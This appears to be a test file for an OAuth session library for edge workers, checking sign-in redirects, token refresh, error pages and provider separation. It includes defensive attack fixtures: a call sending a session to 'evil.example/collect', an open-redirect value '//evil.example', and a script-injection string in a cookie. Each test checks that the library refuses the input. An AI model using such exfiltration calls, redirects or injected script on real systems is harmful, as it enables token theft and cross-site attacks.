/** `protect` and its pieces: sign in first, the session in the worker's hands, committed on every way out. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { APP, createApp, SANDBOX, USERINFO } from "./app.js";
import { codeOf, errorOf } from "./refusals.js";

const only = (provider) => (all) => ({ [provider]: all[provider] });
const HIGHEST_IDLE = { idle: 604_800, absolute: 604_800 };

/** A worker around `serve`, with one provider, and a person in front of it. */
function protectedBy(serve, { provider = "tali", demand, ...options } = {}) {
  const app = createApp({ providers: only(provider), session: HIGHEST_IDLE, ...options });
  const fetch = app.auth.protect(serve, demand);
  const person = app.userAgent((url, init) => fetch(new Request(url, init), app.env, app.ctx));
  return { app, person };
}

/** Follows the redirects of a protected page through the sandbox, as a browser does. */
async function signInFrom(app, person, path) {
  const sent = await person.open(path);
  assert.equal(sent.status, 302);
  return person.open(await app.sandbox.signIn(sent.headers.get("location")));
}

const greeting = ({ session }) => new Response(`hello from ${session.provider}`);

test("a person who opens a protected page signs in first and comes back to that very page", async () => {
  const { app, person } = protectedBy(greeting);
  const back = await signInFrom(app, person, "/inbox?page=2&q=a%20b");
  assert.equal(back.headers.get("location"), "/inbox?page=2&q=a%20b");
  const page = await person.open(back.headers.get("location"));
  assert.deepEqual([page.status, await page.text()], [200, "hello from tali"]);
});

test("authorize() shows a sign-in that failed, once, and does not begin the next one by itself", async () => {
  const app = createApp();
  const person = app.userAgent((url, init) => {
    const request = new Request(url, init);
    const { pathname } = new URL(url);
    const options = pathname === "/at-once" ? { provider: "tali", showFailure: false } : { provider: "tali" };
    return app.auth.handle(request, app.env).then((own) => own ?? app.auth.authorize(request, app.env, options));
  });
  const sent = await person.open("/page");
  const back = await person.open(await app.sandbox.signIn(sent.headers.get("location"), { cancel: true }));
  const path = back.headers.get("location");
  assert.equal(path, "/page#auth_error=access_denied");
  const shown = await person.open(path);
  assert.equal(shown.status, 403);
  assert.match(await shown.text(), /access_denied/);
  assert.equal((await person.open("/page")).status, 302, "shown once");
  await person.open(await app.sandbox.signIn((await person.open("/page")).headers.get("location"), { cancel: true }));
  assert.equal((await person.open("/at-once")).status, 302);
});

test("a call that needs a session gets 401 as JSON and no redirect that it could not follow", async () => {
  const { person } = protectedBy(greeting);
  for (const init of [{}, { method: "POST", body: "{}" }]) {
    const answer = await person.call("/api/messages", init);
    assert.equal(answer.status, 401);
    assert.equal(answer.headers.get("location"), null);
    const said = await answer.json();
    assert.deepEqual([said.code, said.kind], ["login_required", "session"]);
    assert.ok(said.message && said.hint);
  }
});

test("a posted form, a frame and a client without Fetch Metadata that wants no page are no navigations", async () => {
  const { person } = protectedBy(greeting);
  const none = { "sec-fetch-mode": undefined, "sec-fetch-dest": undefined, "sec-fetch-site": undefined };
  for (const init of [{ method: "POST" }, { headers: { "sec-fetch-dest": "iframe" } }, { headers: { ...none, accept: "application/json" } }]) {
    assert.equal((await person.open("/inbox", init)).status, 401);
  }
  assert.equal((await person.open("/inbox", { headers: none })).status, 302, "an old browser tells by Accept");
});

test("the session calls the API with the token, and to no other origin", async () => {
  let said;
  const { app, person } = protectedBy(async ({ session }) => {
    said = await errorOf(session.fetch("https://evil.example/collect"));
    const answer = await session.fetch(`${SANDBOX}${USERINFO.tali}`, { headers: { "x-own": "1" } });
    return new Response(answer.body, answer);
  });
  await signInFrom(app, person, "/me");
  const me = await person.open("/me");
  assert.equal((await me.json()).data.first_name, "Ada");
  assert.equal(said.code, "upstream_refused");
  const [seen] = app.sandbox.log("userinfo");
  assert.deepEqual([seen.headers["x-own"], seen.headers.authorization.slice(0, 7)], ["1", "Bearer "]);
});

test("a token that is refreshed inside the worker reaches the browser as a cookie on the response", async () => {
  const { app, person } = protectedBy(async ({ session }) => Response.json((await session.accessToken()).expires_at));
  await signInFrom(app, person, "/me");
  app.advance(86_401);
  const answer = await person.open("/me");
  assert.equal(await answer.json(), 1_700_086_401 + 86_400);
  assert.match(answer.headers.getSetCookie()[0], /^gw\.auth\.tali=/);
  app.advance(1000);
  await person.open("/me");
  assert.equal(app.tokenRequests("tali"), 2, "the browser kept it");
});

test("an API that says 401 gets one refreshed token, and the call is repeated once", async () => {
  let refused = 0;
  const { app, person } = protectedBy(async ({ session }) => new Response(null, { status: (await session.fetch(`${SANDBOX}${USERINFO.tali}`)).status }));
  await signInFrom(app, person, "/me");
  app.sandbox.fault("tali", { endpoint: "userinfo", kind: "answer", status: 401, body: {} });
  assert.equal((await person.open("/me")).status, 200);
  app.sandbox.fault("tali", { endpoint: "userinfo", kind: "answer", status: 401, body: {}, times: "always" });
  assert.equal((await person.open("/me")).status, 401, "and not for ever");
  refused = app.sandbox.log("userinfo").length;
  assert.equal(refused, 4);
});

test("a refresh that the provider refuses for good signs the person in again, and they come back", async () => {
  const { app, person } = protectedBy(async ({ session }) => Response.json((await session.accessToken()).token_type));
  await signInFrom(app, person, "/me");
  app.advance(86_401);
  app.sandbox.fault("tali", { kind: "answer", status: 403, body: { error: "invalid_grant" } });
  const sent = await person.open("/me");
  assert.equal(sent.status, 302);
  assert.match(sent.headers.get("location"), /\/tali\/oauth\/authorize\?/);
  assert.ok(person.jar.names().includes("gw_refused.auth.tali"), "another isolate may have a newer session");
  const back = await person.open(await app.sandbox.signIn(sent.headers.get("location")));
  assert.equal(back.headers.get("location"), "/me");
  assert.deepEqual(person.jar.names(), ["gw.auth.tali"]);
  assert.equal(await (await person.open("/me")).json(), "Bearer");
});

test("a provider that is down for a while costs no session", async () => {
  const { app, person } = protectedBy(async ({ session }) => Response.json(await errorOf(session.accessToken())));
  await signInFrom(app, person, "/me");
  app.advance(86_401);
  app.sandbox.fault("tali", { kind: "503", retryAfter: 7 });
  const said = await (await person.open("/me")).json();
  assert.deepEqual([said.code, said.retryable, said.retry_after], ["server_unavailable", true, 7]);
  assert.ok(person.jar.names().includes("gw.auth.tali"));
});

test("an error of the worker's own is its own, whatever it is called", async () => {
  const { app, person } = protectedBy(() => { throw new TypeError("of my own"); });
  await signInFrom(app, person, "/me");
  await assert.rejects(person.open("/me"), { name: "TypeError", message: "of my own" });
});

test("a sign-in that has just failed shows a page with a way on, instead of going round and round", async () => {
  const { app, person } = protectedBy(greeting);
  const sent = await person.open("/inbox?page=2");
  const back = await person.open(await app.sandbox.signIn(sent.headers.get("location"), { cancel: true }));
  assert.equal(back.headers.get("location"), "/inbox?page=2#auth_error=access_denied");
  const page = await person.open("/inbox?page=2");
  assert.equal(page.status, 403);
  assert.match(page.headers.get("content-type"), /^text\/html/);
  assert.match(page.headers.get("content-security-policy"), /default-src 'none'/);
  const html = await page.text();
  assert.match(html, /access_denied/);
  assert.ok(html.includes('href="/auth/tali/login?return_to=%2Finbox%3Fpage%3D2"'), html);
  assert.equal((await person.open("/inbox?page=2")).status, 302, "the next visit tries again");
});

test("what a failure cookie says is not put on the page unless it is a code", async () => {
  const { person } = protectedBy(greeting);
  person.jar.set("gw_failed.auth", "<script>alert(1)</script>");
  const answer = await person.open("/inbox");
  assert.doesNotMatch(await answer.text(), /<script>alert/);
});

test("signing out in the worker takes the cookie along", async () => {
  const { app, person } = protectedBy(async ({ request, session }) => {
    if (new URL(request.url).pathname === "/bye") await session.signOut();
    return new Response("bye");
  });
  await signInFrom(app, person, "/");
  assert.equal(await (await person.open("/bye")).text(), "bye");
  assert.deepEqual(person.jar.names(), []);
  assert.equal((await person.open("/")).status, 302);
});

test("with several providers the program says which; without saying so it is a mistake", async () => {
  const app = createApp();
  const request = (headers) => new Request(`${APP}/inbox`, { headers });
  const navigation = { accept: "text/html" };
  const unsaid = await app.auth.authorize(request(navigation), app.env, {});
  assert.deepEqual([unsaid.status, (await unsaid.json()).code], [500, "option_missing"]);
  const said = await app.auth.authorize(request(navigation), app.env, { provider: "tiltify", returnTo: "/there" });
  assert.match(said.headers.get("location"), /\/tiltify\/oauth\/authorize\?/);
  assert.equal(await codeOf(app.auth.authorize(request(navigation), app.env, { provider: "tiltify", returnTo: "//evil.example" })), "return_to_refused");
  assert.equal(await codeOf(app.auth.authorize(request(navigation), app.env, { provider: "tiltify", return_to: "/" })), "option_unknown");
});

test("a page for people of one provider opens for nobody who signed in with another", async () => {
  const app = createApp({ providers: ({ tali, tiltify }) => ({ tali, tiltify }), session: HIGHEST_IDLE });
  const areas = { "/shop": "tali", "/admin": "tiltify" };
  const serveArea = Object.fromEntries(Object.entries(areas).map(([path, provider]) => [path, app.auth.protect(greeting, { provider })]));
  const person = app.userAgent((url, init) => (serveArea[new URL(url).pathname] ?? serveArea["/shop"])(new Request(url, init), app.env, app.ctx));
  await signInFrom(app, person, "/shop");
  assert.equal(await (await person.open("/shop")).text(), "hello from tali");
  const sent = await person.open("/admin");
  assert.deepEqual([sent.status, new URL(sent.headers.get("location")).pathname], [302, "/tiltify/oauth/authorize"]);
  const refused = await person.call("/admin");
  assert.deepEqual([refused.status, (await refused.json()).code], [401, "login_required"]);
  const ask = (options) => app.auth.session(new Request(`${APP}/x`, { headers: { cookie: person.jar.header() } }), app.env, app.ctx, options);
  assert.equal((await ask({ provider: "tali" })).provider, "tali");
  assert.equal((await ask()).provider, "tali");
  assert.equal(await ask({ provider: "tiltify" }), null);
  assert.equal(await codeOf(ask({ provider: "tiltfy" })), "provider_unknown");
  assert.equal(await codeOf(ask({ providers: "tali" })), "option_unknown");
  await signInFrom(app, person, "/admin");
  assert.equal(await (await person.open("/admin")).text(), "hello from tiltify");
});

test("whoever routes by hand gets the same pieces: handle, session, commit, authorize", async () => {
  const app = createApp({ session: HIGHEST_IDLE });
  assert.equal(await app.auth.handle(new Request(`${APP}/inbox`), app.env), undefined, "another path is not ours");
  assert.equal(await app.auth.handle(new Request(`${APP}/authentic`), app.env), undefined);
  assert.equal(await app.auth.session(new Request(`${APP}/inbox`), app.env), null);
  const person = app.userAgent();
  await person.signIn(app.sandbox, "tiltify");
  app.advance(7201);
  const session = await app.auth.session(new Request(`${APP}/inbox`, { headers: { cookie: person.jar.header() } }), app.env);
  assert.deepEqual([session.provider, session.scope, session.token_expires_at, session.data], ["tiltify", ["public"], 1_700_007_200, {}]);
  await session.accessToken();
  const committed = session.commit(new Response("x", { headers: { "set-cookie": "own=1; Path=/" } }));
  assert.equal(committed.headers.getSetCookie().length, 2);
  assert.equal(await codeOf(() => session.commit("x")), "option_wrong_type");
  assert.doesNotMatch(JSON.stringify(session), /access_token|refresh_token/);
});

test("the configuration may be a function of the environment, and is asked once for each", async () => {
  const { createHandler } = await import("grantway/edge");
  const { config } = createApp();
  const asked = [];
  const auth = createHandler((env) => {
    asked.push(env);
    return { ...config, cookieKeys: [env.key] };
  });
  const [one, other] = [{ key: config.cookieKeys[0] }, { key: "bad" }];
  const open = (env) => auth.handle(new Request(`${APP}/auth/session`, { headers: { grantway: "1" } }), env);
  assert.equal((await open(one)).status, 200);
  assert.equal(await codeOf(() => open(other)), "cookie_key_invalid");
  await open(one);
  assert.deepEqual(asked, [one, other]);
});
